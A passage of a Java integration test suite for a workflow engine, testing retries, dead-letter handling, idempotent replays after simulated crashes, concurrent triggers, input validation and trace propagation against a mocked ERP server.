        admin.post("/api/v1/admin/queues/dlq/requeue", Map.of("id", deadLetter)).expectStatus(200);

        awaitRun(runId, "succeeded");
        await().during(Duration.ofSeconds(2))
                .atMost(Duration.ofSeconds(5))
                .until(() -> jdbc.sql("select count(*) from scheduled_tasks where task_instance like ?")
                                .param(runId + "/%")
                                .query(Long.class)
                                .single()
                        == 0);
        // the failed attempt and one more: neither the second resume nor the replay called it again
        ERP.verify(2, postRequestedFor(urlEqualTo("/twice/big")));
        ERP.verify(1, postRequestedFor(urlEqualTo("/twice")));
    }

    @Test
    void aStepThatKeepsFailingIsRetriedThenFailsItsRunIntoTheDeadLetters() {
        ERP.stubFor(post(urlEqualTo("/flaky")).willReturn(aResponse().withStatus(503)));
        JsonNode definition = orderWorkflow("/flaky");
        ((ObjectNode) definition.get("steps").get(0).get("input"))
                .putObject("headers")
                .put("Authorization", "Bearer erp-s3cret-token");
        String key = create(CatalogFixtures.unique("flaky-"), definition);

        String runId = started(key, Map.of("number", "DK-6", "total", 1));
        JsonNode failed = awaitRun(runId, "failed");
        assertThat(failed.get("steps").get(0).get("attempts").asInt()).isEqualTo(3);
        assertThat(failed.get("run").get("error").asString()).contains("503");
        ERP.verify(
                3,
                postRequestedFor(urlEqualTo("/flaky")).withHeader("Authorization", equalTo("Bearer erp-s3cret-token")));
        // the failed attempts' log lines keep the input without the token
        List<String> logged = jdbc.sql(
                        "select cast(data as text) from automation_logs where run_id = ? and status = 'retrying'")
                .param(UUID.fromString(runId))
                .query(String.class)
                .list();
        assertThat(logged)
                .hasSize(3)
                .allSatisfy(data -> assertThat(data).contains("[hidden]").doesNotContain("s3cret"));
    }

    @Test
    void theJobOfAStepRunsTheNextOneAtOnceAndStaysClaimedMeanwhile() {
        answersWithId("/chain", "c-1");
        ERP.stubFor(post(urlEqualTo("/chain/big"))
                .willReturn(aResponse().withStatus(200).withFixedDelay(1500)));
        String key = create(CatalogFixtures.unique("chain-"), orderWorkflow("/chain"));

        String runId = started(key, Map.of("number", "DK-7", "total", 5000));
        // while the second step waits for the ERP, the first step's job runs it: no job of its own
        await().atMost(Duration.ofSeconds(30))
                .until(() ->
                        !ERP.findAll(postRequestedFor(urlEqualTo("/chain/big"))).isEmpty());
        assertThat(jdbc.sql("select task_instance || ' ' || picked from scheduled_tasks where task_instance like ?")
                        .param(runId + "/%")
                        .query(String.class)
                        .list())
                .containsExactly(runId + "/0 true");
        awaitRun(runId, "succeeded");
        ERP.verify(1, postRequestedFor(urlEqualTo("/chain/big")));
    }

    @Test
    void aLaterStepThatKeepsFailingHasItsConnectorsAttemptsAndNoMore() {
        answersWithId("/later", "l-1");
        ERP.stubFor(post(urlEqualTo("/later/big")).willReturn(aResponse().withStatus(503)));
        String key = create(CatalogFixtures.unique("later-"), orderWorkflow("/later"));

        String runId = started(key, Map.of("number", "DK-8", "total", 5000));
        JsonNode failed = awaitRun(runId, "failed");
        // the first attempt ran in the first step's job, the other two in a job of its own
        assertThat(failed.get("run").get("failed_step").asString()).isEqualTo("big");
        assertThat(failed.get("steps").get(1).get("attempts").asInt()).isEqualTo(3);
        ERP.verify(1, postRequestedFor(urlEqualTo("/later")));
        ERP.verify(3, postRequestedFor(urlEqualTo("/later/big")));
        assertThat(jdbc.sql("select task_instance || ' ' || attempts from job_dead_letters where task_instance like ?")
                        .param(runId + "/%")
                        .query(String.class)
                        .list())
                .containsExactly(runId + "/1 3");
    }

    @Test
    void aStepJobRunAgainWhileItsRunIsUnderWayCallsNoFinishedStepAgain() {
        for (String path : List.of("/again/one", "/again/two")) {
            answersWithId(path, "a");
        }
        ERP.stubFor(post(urlEqualTo("/again/three"))
                .willReturn(aResponse().withStatus(200).withFixedDelay(5000)));
        String key = create(CatalogFixtures.unique("again-"), json("""
                {"name": "Three steps",
                 "trigger": {"type": "webhook"},
                 "input": {"type": "object", "properties": {"number": {"type": "string"}}},
                 "steps": [
                   {"id": "one", "connector": "http", "input": {"url": "%s", "body": {"n": "{{trigger.number}}"}}},
                   {"id": "two", "connector": "http", "input": {"url": "%s", "body": {"n": "{{trigger.number}}"}}},
                   {"id": "three", "connector": "http", "input": {"url": "%s", "body": {"n": "{{trigger.number}}"}}}
                 ]}""".formatted(
                        erp("/again/one"), erp("/again/two"), erp("/again/three"))));

        String runId = started(key, Map.of("number", "DK-9"));
        await().atMost(Duration.ofSeconds(30))
                .until(() -> !ERP.findAll(postRequestedFor(urlEqualTo("/again/three")))
                        .isEmpty());
        // as after a crash in the third step: the first step's job runs again beside the one under way
        jdbc.sql("""
                        insert into scheduled_tasks (task_name, task_instance, task_data, execution_time, picked, version, priority)
                        select task_name, task_instance || '/again', task_data, now(), false, 1, priority
                          from scheduled_tasks where task_instance = ?""").param(runId + "/0").update();

        JsonNode done = awaitRun(runId, "succeeded");
        ERP.verify(1, postRequestedFor(urlEqualTo("/again/one")));
        ERP.verify(1, postRequestedFor(urlEqualTo("/again/two")));
        // the step under way is called again, with the same idempotency key
        await().atMost(Duration.ofSeconds(10))
                .until(() -> ERP.findAll(postRequestedFor(urlEqualTo("/again/three"))
                                        .withHeader("Idempotency-Key", equalTo(runId + ":three")))
                                .size()
                        == 2);
        assertThat(done.get("steps").get(2).get("attempts").asInt()).isGreaterThanOrEqualTo(1);
    }

    @Test
    void aStepJobRunAgainWhileAForEachIsUnderWayCallsNoFinishedItemAgain() {
        answersWithId("/items/one", "a");
        ERP.stubFor(post(urlEqualTo("/items/each")).willReturn(aResponse().withStatus(200)));
        ERP.stubFor(post(urlEqualTo("/items/each"))
                .withRequestBody(containing("third"))
                .willReturn(aResponse().withStatus(200).withFixedDelay(5000)));
        String key =
                create(CatalogFixtures.unique("items-"), json("""
                {"name": "One, then each item",
                 "trigger": {"type": "webhook"},
                 "input": {"type": "object", "properties": {"items": {"type": "array"}}},
                 "steps": [
                   {"id": "one", "connector": "http", "input": {"url": "%s", "body": {"n": "start"}}},
                   {"id": "each", "connector": "http", "forEach": "trigger.items",
                    "input": {"url": "%s", "body": {"n": "{{item.n}}"}}}
                 ]}""".formatted(erp("/items/one"), erp("/items/each"))));

        String runId = started(
                key, Map.of("items", List.of(Map.of("n", "first"), Map.of("n", "second"), Map.of("n", "third"))));
        await().atMost(Duration.ofSeconds(30))
                .until(() -> !ERP.findAll(
                                postRequestedFor(urlEqualTo("/items/each")).withRequestBody(containing("third")))
                        .isEmpty());
        // as after a crash during the third item: the first step's job runs again
        jdbc.sql("""
                        insert into scheduled_tasks (task_name, task_instance, task_data, execution_time, picked, version, priority)
                        select task_name, task_instance || '/again', task_data, now(), false, 1, priority
                          from scheduled_tasks where task_instance = ?""").param(runId + "/0").update();

        awaitRun(runId, "succeeded");
        ERP.verify(1, postRequestedFor(urlEqualTo("/items/one")));
        ERP.verify(1, postRequestedFor(urlEqualTo("/items/each")).withRequestBody(containing("first")));
        ERP.verify(1, postRequestedFor(urlEqualTo("/items/each")).withRequestBody(containing("second")));
        // only the item under way is called again, with its own idempotency key
        await().atMost(Duration.ofSeconds(10))
                .until(() -> ERP.findAll(postRequestedFor(urlEqualTo("/items/each"))
                                        .withHeader("Idempotency-Key", equalTo(runId + ":each:2")))
                                .size()
                        == 2);
    }

    @Test
    void triggersArrivingTogetherStartOneRunPerIdempotencyKeyAndRefuseAReusedKey() throws Exception {
        answersWithId("/burst", "b");
        String key = create(CatalogFixtures.unique("burst-"), orderWorkflow("/burst"));
        String secret = secret("triggers:write");
        ExecutorService clients = Executors.newFixedThreadPool(16);
        Map<Integer, Set<String>> runsByKey = new HashMap<>();
        try {
            List<Future<Response>> answers = new ArrayList<>();
            for (int i = 0; i < 48; i++) {
                int n = i % 8;
                answers.add(clients.submit(() -> keyedBy(secret)
                        .header("Idempotency-Key", key + "-" + n)
                        .post("/api/v1/triggers/" + key, Map.of("number", "DK-" + n, "total", 1))));
            }
            for (int i = 0; i < answers.size(); i++) {
                String runId = answers.get(i)
                        .get(30, TimeUnit.SECONDS)
                        .expectStatus(202)
                        .json()
                        .get("run_id")
                        .asString();
                runsByKey.computeIfAbsent(i % 8, n -> new HashSet<>()).add(runId);
            }
        } finally {
            clients.shutdownNow();
        }
        assertThat(runsByKey).hasSize(8).allSatisfy((n, ids) -> assertThat(ids).hasSize(1));
        assertThat(runs(key)).isEqualTo(8);
        keyedBy(secret)
                .header("Idempotency-Key", key + "-3")
                .post("/api/v1/triggers/" + key, Map.of("number", "DK-other", "total", 1))
                .expectStatus(409);
        assertThat(runs(key)).isEqualTo(8);
    }

    @Test
    void textTheDatabaseRefusesIsRefusedAtTheEdgeAndFailsNoOtherTriggerOfItsBatch() throws Exception {
        answersWithId("/nul", "n");
        String key = create(CatalogFixtures.unique("nul-"), orderWorkflow("/nul"));
        String secret = secret("triggers:write");
        JsonNode problem = keyedBy(secret)
                .post("/api/v1/triggers/" + key, Map.of("number", "DK-\u0000", "total", 1))
                .expectStatus(400)
                .json();
        assertThat(problem.get("errors").get(0).get("field").asString()).isEqualTo("body.number");
        Object deep = 1;
        for (int i = 0; i < 50; i++) {
            deep = List.of(deep);
        }
        keyedBy(secret)
                .post("/api/v1/triggers/" + key, Map.of("number", "DK-1", "total", 1, "deep", deep))
                .expectStatus(400);
        assertThat(runs(key)).isZero();

        // past the edge (a payload PostgreSQL's jsonb refuses), among triggers written together
        Workflow workflow = store.findCached(key).orElseThrow();
        ExecutorService clients = Executors.newFixedThreadPool(16);
        try {
            List<Future<RunEngine.Started>> good = new ArrayList<>();
            Future<RunEngine.Started> bad = null;
            for (int i = 0; i < 32; i++) {
                String number = "DK-" + i;
                good.add(clients.submit(() -> batches.start(
                        workflow, json("{\"number\": \"" + number + "\", \"total\": 1}"), null, new byte[32])));
                if (i == 8) {
                    bad = clients.submit(() -> batches.start(
                            workflow, json("{\"number\": \"DK-\\u0000\", \"total\": 1}"), null, new byte[32]));
                }
            }
            for (Future<RunEngine.Started> answer : good) {
                assertThat(answer.get(30, TimeUnit.SECONDS).created()).isTrue();
            }
            Future<RunEngine.Started> refused = bad;
            assertThatThrownBy(() -> refused.get(30, TimeUnit.SECONDS)).isInstanceOf(ExecutionException.class);
        } finally {
            clients.shutdownNow();
        }
        assertThat(runs(key)).isEqualTo(32);
    }

    @Test
    void aTriggersRunIsStartedInTheTraceOfItsRequest() {
        ERP.stubFor(post(urlEqualTo("/traced"))
                .willReturn(aResponse().withStatus(200).withFixedDelay(3000)));
        String key = create(CatalogFixtures.unique("traced-"), orderWorkflow("/traced"));
        Span request = tracer.nextSpan().name("test request").start();
        RunEngine.Started started;
        try (Tracer.SpanInScope scope = tracer.withSpan(request)) {
            started = batches.start(
                    store.findCached(key).orElseThrow(),
                    json("{\"number\": \"DK-11\", \"total\": 1}"),
                    null,
                    new byte[32]);
        } finally {
            request.end();
        }
        // the first step's job, claimed while the ERP takes its time, carries the request's trace
        String job = jdbc.sql("select convert_from(task_data, 'UTF8') from scheduled_tasks where task_instance = ?")
                .param(started.runId() + "/0")
                .query(String.class)
                .single();
        assertThat(job).contains(request.context().traceId());
        awaitRun(started.runId().toString(), "succeeded");
    }
}
